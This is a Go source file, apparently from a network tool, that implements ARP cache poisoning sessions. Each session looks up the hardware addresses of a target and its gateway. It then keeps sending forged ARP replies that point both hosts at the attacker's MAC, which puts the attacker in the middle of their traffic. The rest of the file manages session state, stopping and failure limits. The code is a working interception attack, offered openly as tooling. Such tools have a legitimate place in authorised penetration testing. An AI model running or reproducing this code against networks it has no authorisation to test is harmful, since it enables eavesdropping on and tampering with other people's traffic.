package spoof

import (
	"context"
	"errors"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"github.com/projectdiscovery/gologger"
	"github.com/projectdiscovery/kancut/pkg/arpframe"
	"github.com/projectdiscovery/kancut/pkg/link"
	"github.com/projectdiscovery/kancut/pkg/types"
	"github.com/rs/xid"
	"golang.org/x/sync/errgroup"
)

const (
	DefaultPeriod      = time.Second
	DefaultMaxFailures = 10
)

// Sender writes raw frames, *link.Handle satisfies it
type Sender interface {
	Send(frame []byte) error
}

// MACResolver resolves an IPv4 address to its hardware address
type MACResolver interface {
	Resolve(ctx context.Context, ip netip.Addr) (net.HardwareAddr, error)
}

// Config describes one poisoning session
type Config struct {
	TargetIP    netip.Addr
	GatewayIP   netip.Addr
	Interface   string
	AttackerMAC net.HardwareAddr
	// Period between two poisoning ticks
	Period time.Duration
	// MaxFailures consecutive failing ticks stop the session
	MaxFailures int
	// OnExit runs once after the loop stopped and the session left the registry
	OnExit func(*Session)
}

// Session poisons the ARP caches of a target and its gateway until stopped
type Session struct {
	id          string
	targetIP    netip.Addr
	gatewayIP   netip.Addr
	iface       string
	attackerMAC net.HardwareAddr
	createdAt   time.Time
	period      time.Duration
	maxFailures int
	onExit      func(*Session)

	// set once before the loop starts
	targetMAC  net.HardwareAddr
	gatewayMAC net.HardwareAddr

	sender   Sender
	registry *Registry

	state   atomic.Int32
	active  atomic.Bool
	packets atomic.Uint64

	stopOnce sync.Once
	stop     chan struct{}
	done     chan struct{}

	// written by the loop before done is closed
	exitErr error
}

func newSession(cfg Config) *Session {
	s := &Session{
		id:          xid.New().String(),
		targetIP:    cfg.TargetIP.Unmap(),
		gatewayIP:   cfg.GatewayIP.Unmap(),
		iface:       cfg.Interface,
		attackerMAC: cfg.AttackerMAC,
		createdAt:   time.Now(),
		period:      cfg.Period,
		maxFailures: cfg.MaxFailures,
		onExit:      cfg.OnExit,
		stop:        make(chan struct{}),
		done:        make(chan struct{}),
	}
	if s.period <= 0 {
		s.period = DefaultPeriod
	}
	if s.maxFailures <= 0 {
		s.maxFailures = DefaultMaxFailures
	}
	s.state.Store(int32(types.StateCreated))
	return s
}

// Start resolves both hardware addresses, admits the session into the
// registry and launches its loop. On error nothing is registered and OnExit
// is not called.
func Start(ctx context.Context, registry *Registry, resolver MACResolver, sender Sender, cfg Config) (*Session, error) {
	s := newSession(cfg)
	s.sender = sender
	s.registry = registry

	s.setState(types.StateResolving)
	var targetMAC, gatewayMAC net.HardwareAddr
	g, gctx := errgroup.WithContext(ctx)
	g.Go(func() error {
		mac, err := resolver.Resolve(gctx, s.targetIP)
		if err != nil {
			return err
		}
		targetMAC = mac
		return nil
	})
	g.Go(func() error {
		mac, err := resolver.Resolve(gctx, s.gatewayIP)
		if err != nil {
			return err
		}
		gatewayMAC = mac
		return nil
	})
	if err := g.Wait(); err != nil {
		s.setState(types.StateStopped)
		if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
			return nil, types.NewNetworkError(err, "resolution of %s and %s interrupted", s.targetIP, s.gatewayIP)
		}
		return nil, err
	}
	s.targetMAC, s.gatewayMAC = targetMAC, gatewayMAC

	// active before admission, so a stop issued right after Admit is honoured
	s.active.Store(true)
	s.setState(types.StateActive)
	if err := registry.Admit(s); err != nil {
		s.active.Store(false)
		s.setState(types.StateStopped)
		return nil, err
	}
	gologger.Info().Msgf("session %s: poisoning %s (%s) <-> %s (%s) on %s", s.id, s.targetIP, s.targetMAC, s.gatewayIP, s.gatewayMAC, s.iface)
	go s.loop()
	return s, nil
}

func (s *Session) loop() {
	defer s.finish()

	toTarget := arpframe.Encode(arpframe.Reply(s.attackerMAC, s.gatewayIP, s.targetMAC, s.targetIP))
	toGateway := arpframe.Encode(arpframe.Reply(s.attackerMAC, s.targetIP, s.gatewayMAC, s.gatewayIP))

	ticker := time.NewTicker(s.period)
	defer ticker.Stop()

	failures := 0
	for {
		if s.State() != types.StateActive {
			return
		}

		err := s.tick(toTarget, toGateway)
		switch {
		case err == nil:
			failures = 0
		case errors.Is(err, link.ErrClosed):
			gologger.Error().Msgf("session %s: interface %s closed, stopping", s.id, s.iface)
			s.halt(types.NewSpoofingError(err, "interface %s closed", s.iface))
			return
		default:
			failures++
			gologger.Warning().Msgf("session %s: send failed (%d/%d): %s", s.id, failures, s.maxFailures, err)
			if failures >= s.maxFailures {
				gologger.Error().Msgf("session %s: %d consecutive failing ticks, stopping", s.id, failures)
				s.halt(types.NewSpoofingError(err, "%d consecutive failing ticks", failures))
				return
			}
		}

		select {
		case <-s.stop:
			return
		case <-ticker.C:
		}
	}
}

// tick sends both forged replies and returns the last send error
func (s *Session) tick(frames ...[]byte) error {
	var lastErr error
	for _, frame := range frames {
		if err := s.sender.Send(frame); err != nil {
			if errors.Is(err, link.ErrClosed) {
				return err
			}
			lastErr = err
			continue
		}
		s.packets.Add(1)
	}
	gologger.Debug().Msgf("session %s: tick, %d packets sent", s.id, s.packets.Load())
	return lastErr
}

func (s *Session) finish() {
	if s.registry != nil {
		s.registry.Remove(s)
	}
	s.active.Store(false)
	s.setState(types.StateStopped)
	if s.onExit != nil {
		s.onExit(s)
	}
	gologger.Verbose().Msgf("session %s stopped after %d packets", s.id, s.packets.Load())
	close(s.done)
}

// Stop asks the loop to exit. It returns true only for the call that moved
// the session out of the active state.
func (s *Session) Stop() bool {
	if !s.state.CompareAndSwap(int32(types.StateActive), int32(types.StateStopping)) {
		return false
	}
	s.stopOnce.Do(func() { close(s.stop) })
	return true
}

// halt is Stop for the loop itself, recording why it gave up. A stop that
// was already requested wins and leaves Err nil.
func (s *Session) halt(err error) {
	if s.Stop() {
		s.exitErr = err
	}
}

// Err returns why the loop stopped on its own, nil after a requested stop.
// Only meaningful once Done is closed.
func (s *Session) Err() error {
	return s.exitErr
}

// Done is closed once the loop exited and the session left the registry
func (s *Session) Done() <-chan struct{} {
	return s.done
}

// Wait blocks until the loop exited or ctx is done
func (s *Session) Wait(ctx context.Context) error {
	select {
	case <-s.done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

func (s *Session) ID() string                        { return s.id }
func (s *Session) TargetIP() netip.Addr              { return s.targetIP }
func (s *Session) GatewayIP() netip.Addr             { return s.gatewayIP }
func (s *Session) Interface() string                 { return s.iface }
func (s *Session) State() types.SessionState         { return types.SessionState(s.state.Load()) }
func (s *Session) Active() bool                      { return s.active.Load() }
func (s *Session) PacketsSent() uint64               { return s.packets.Load() }
func (s *Session) setState(state types.SessionState) { s.state.Store(int32(state)) }

// Snapshot returns a serializable copy without blocking the loop
func (s *Session) Snapshot() types.SessionSnapshot {
	return types.SessionSnapshot{
		ID:          s.id,
		TargetIP:    s.targetIP.String(),
		TargetMAC:   macString(s.targetMAC),
		GatewayIP:   s.gatewayIP.String(),
		GatewayMAC:  macString(s.gatewayMAC),
		Interface:   s.iface,
		AttackerMAC: macString(s.attackerMAC),
		State:       s.State(),
		IsActive:    s.Active(),
		PacketsSent: s.PacketsSent(),
		CreatedAt:   s.createdAt,
	}
}

func macString(mac net.HardwareAddr) string {
	if len(mac) == 0 {
		return ""
	}
	return mac.String()
}
